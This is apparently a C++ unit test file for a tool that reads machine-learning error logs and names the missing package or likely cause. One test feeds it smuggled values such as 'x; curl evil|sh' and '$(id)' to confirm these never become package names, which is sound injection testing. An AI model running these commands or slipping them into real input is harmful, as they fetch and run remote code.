// What a line says besides what the rules look for.
#include "doctor/hints.h"

#include <gtest/gtest.h>

#include "doctor/advice.h"
#include "doctor/read_log.h"

namespace plimsoll::doctor {
namespace {

TEST(Hints, TellWhatIsOnlySupposed) {
  for (const char* line : {"if you get `cuda error`", "this may cause cuda error", "errors such as cuda error"})
    EXPECT_TRUE(only_supposes(line, std::string(line).find("cuda"))) << line;
  for (const char* line : {"cuda error", "runtimeerror: cuda error", "if you get lost, ask. then came cuda error",
                           "cuda error: if you get this again, see above"})
    EXPECT_FALSE(only_supposes(line, std::string(line).find("cuda"))) << line;
}

TEST(Hints, NameThePackageThatAMessageAsksFor) {
  const std::pair<const char*, const char*> cases[] = {
      {"No module named 'cv2'", "opencv-python-headless"},
      {"No module named 'sklearn.metrics'", "scikit-learn"},
      {"make sure you have sentencepiece installed.", "sentencepiece"},
      {"LayoutLMv3TokenizerFast requires the tokenizers library but it was not found", "tokenizers"},
      {"you need to install the following dependencies['seqeval'] using 'pip install seqeval'", "seqeval"},
      {"Run `pip install -U flash_attn einops`", "flash-attn"},
      {"The package `timm` is not installed", "timm"},
      {"timm is not installed. Please install it", "timm"},
      {"Please install the pytesseract package", "pytesseract"},
      {"protobuf needs to be installed", "protobuf"},
      {"please install it", ""},
      {"pip install", ""},
      {"pip install -", ""},
      {"No module named ''", ""},
      {"everything is well", ""}};
  for (const auto& [message, package] : cases) EXPECT_EQ(missing_package(message), package) << message;
}

// What is put into a command is a name, and nothing else that a log may hold.
TEST(Hints, NameNothingThatNoPackageIsCalled) {
  EXPECT_EQ(missing_package("No module named 'x; curl evil|sh'"), "");
  EXPECT_EQ(missing_package("No module named '$(id)'"), "");
  EXPECT_EQ(missing_package("No module named '\xC2\x9B"
                            "1m'"),
            "");
  EXPECT_EQ(missing_package("No module named '-r'"), "");
  // A file beside the script, not the package that pip has under that name.
  EXPECT_EQ(missing_package("No module named 'utils.boxes'"), "");
  EXPECT_EQ(missing_package("No module named 'seqeval'"), "seqeval");
}

TEST(Hints, TellBetweenWhichPackagesAnImportFailed) {
  const auto frames = [](const char* path) { return std::vector<Frame>{{"x.py", path, 1, "f", true}}; };
  const char *torch = "/opt/site-packages/torch/nn/x.py", *script = "/home/ana/train.py";
  const std::string named = "ImportError: cannot import name 'a' from 'torch.nn' (/opt/x.py)";
  EXPECT_EQ(read_import(named, frames(torch)), Import::kFromItself);
  EXPECT_EQ(read_import(named, frames("/opt/site-packages/torchvision/x.py")), Import::kFromOther);
  EXPECT_EQ(read_import(named, frames(script)), Import::kUnknown);
  EXPECT_EQ(read_import(named, {}), Import::kUnknown);
  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'torch.gone'", frames(torch)), Import::kFromItself);
  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'torch._C._distributed_c10d'", frames(torch)),
            Import::kUnknown);
  EXPECT_EQ(read_import("ImportError: cannot import name '_C' from 'torch'", frames(torch)), Import::kUnknown);
  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'numpy'", frames(torch)), Import::kUnknown);
  EXPECT_EQ(read_import("Can't get attribute 'a' from 'torch.nn'", frames(torch)), Import::kUnknown);
}

TEST(Hints, AMissingPartOfAPackageIsAnotherVersions) {
  const std::optional<Frame> frame =
      read_frame("  File \"/opt/lib/python3.10/site-packages/alignment/model_utils.py\", line 25, in <module>");
  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'huggingface_hub.utils._errors'", {&*frame, 1}),
            Import::kFromOther);
  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'huggingface_hub'", {&*frame, 1}), Import::kUnknown);
}

TEST(Hints, NameTheModuleThatIsNone) {
  const char* message = "AttributeError: 'NoneType' object has no attribute 'ops'";
  EXPECT_EQ(module_that_is_none(message, "    y = xformers.ops.attention(q)"), "xformers");
  EXPECT_EQ(module_that_is_none(message, "--> 12     y = bnb.ops.mm(q)"), "bitsandbytes");
  EXPECT_EQ(module_that_is_none(message, "    y = self.page.ops"), "");
  EXPECT_EQ(module_that_is_none(message, "ops"), "");
  EXPECT_EQ(module_that_is_none("AttributeError: 'dict' object has no attribute 'ops'", "xformers.ops"), "");
}

TEST(Hints, TellSourceThatIsNotWhatRan) {
  for (const char* line : {"---> 12     # the weights come later", "-> 2370     }", "    # the weights come later",
                           "-> 7 try:", "    else:"})
    EXPECT_TRUE(shows_other_source(line)) << line;
  for (const char* line : {"---> 12     call(  # with a remark", "-> 2370     })", "---", "--- 12",
                           "    }, strict=True)", "----> # 1", "", "    raise ValueError(", "->"})
    EXPECT_FALSE(shows_other_source(line)) << line;
}

TEST(Hints, TellANameOfOneLetter) {
  const char* rest =
      " is not a local folder and is not a valid model identifier listed on 'https://huggingface.co/models'";
  EXPECT_TRUE(names_one_letter(std::string("oserror: b") + rest));
  EXPECT_TRUE(names_one_letter("httperror: 404 for url: https://huggingface.co/b/resolve/main/config.json"));
  EXPECT_FALSE(names_one_letter(std::string("oserror: bb") + rest));
  EXPECT_FALSE(names_one_letter(std::string("oserror: ana/b") + rest));
  EXPECT_FALSE(names_one_letter(rest));
  EXPECT_FALSE(names_one_letter("httperror: 404 for url: https://huggingface.co/ana/b/resolve/main/config.json"));
  EXPECT_FALSE(names_one_letter("see https://huggingface.co/"));
}

TEST(Hints, TheShorterOfTwoLengthsDecides) {
  const auto sizes = [](int a, int b, int dimension) {
    return "the size of tensor a (" + std::to_string(a) + ") must match the size of tensor b (" + std::to_string(b) +
           ") at non-singleton dimension " + std::to_string(dimension);
  };
  const auto expanded = [](int wanted, int existing) {
    return "the expanded size of the tensor (" + std::to_string(wanted) + ") must match the existing size (" +
           std::to_string(existing) + ") at non-singleton dimension 1.";
  };
  EXPECT_EQ(read_lengths(sizes(743, 512, 1), ""), Lengths::kTooLong);
  EXPECT_EQ(read_lengths(sizes(512, 743, 1), ""), Lengths::kTooLong);
  EXPECT_EQ(read_lengths(sizes(709, 1221, 3), ""), Lengths::kTooLong);
  EXPECT_EQ(read_lengths(expanded(743, 512), ""), Lengths::kTooLong);
  EXPECT_EQ(read_lengths("shape '[-1, 743]' is invalid for input of size 512", ""), Lengths::kTooLong);
  for (const std::string& message : {sizes(300, 512, 1), sizes(512, 300, 1), sizes(709, 497, 3), expanded(300, 512)})
    EXPECT_EQ(read_lengths(message, ""), Lengths::kPaddedApart) << message;
  const std::string mask = "scores = scores + attention_mask";
  EXPECT_EQ(read_lengths(sizes(300, 512, 3), mask), Lengths::kPaddedApart);
  EXPECT_EQ(read_lengths(sizes(256, 512, 1), mask), Lengths::kPaddedApart);
  // Sizes of features, or of nothing known.
  for (const std::string& message : {sizes(256, 512, 1), sizes(300, 512, 3), sizes(300, 400, 1), expanded(256, 512),
                                     std::string("shape '[-1, 300]' is invalid for input of size 512"),
                                     std::string("the size of tensor a (300) must match the size of tensor b")})
    EXPECT_EQ(read_lengths(message, "x = x + y"), Lengths::kUnknown) << message;
}

// The answer names what to install.
TEST(Hints, TheAnswerNamesThePackage) {
  for (const auto& [log, package] : {std::pair<const char*, const char*>{"package-missing.log", "sentencepiece"},
                                     {"module-missing.log", "datasets"},
                                     {"optional-module.log", "xformers"},
                                     {"optional-module.2.log", "apex"}}) {
    const Diagnosis diagnosis = diagnose(text_of(logs() / log));
    const std::vector<std::string> list = fixes(diagnosis);
    ASSERT_FALSE(list.empty()) << log;
    EXPECT_NE(list.front().find(package), std::string::npos) << log << ": " << list.front();
    EXPECT_EQ(list.front().find("NAME"), std::string::npos) << list.front();
    EXPECT_NE(confirmation(diagnosis).find(package), std::string::npos) << confirmation(diagnosis);
  }
}

// Memory before gaps, where tensors fill the device.
TEST(Hints, AFullDeviceComesBeforeItsGaps) {
  const std::vector<std::string> list = fixes(diagnose(text_of(logs() / "oom-full.log")));
  ASSERT_GE(list.size(), 3U);
  EXPECT_NE(list.front().find("per_device_train_batch_size"), std::string::npos) << list.front();
  EXPECT_NE(list.back().find("expandable_segments"), std::string::npos) << list.back();
}

}  // namespace
}  // namespace plimsoll::doctor
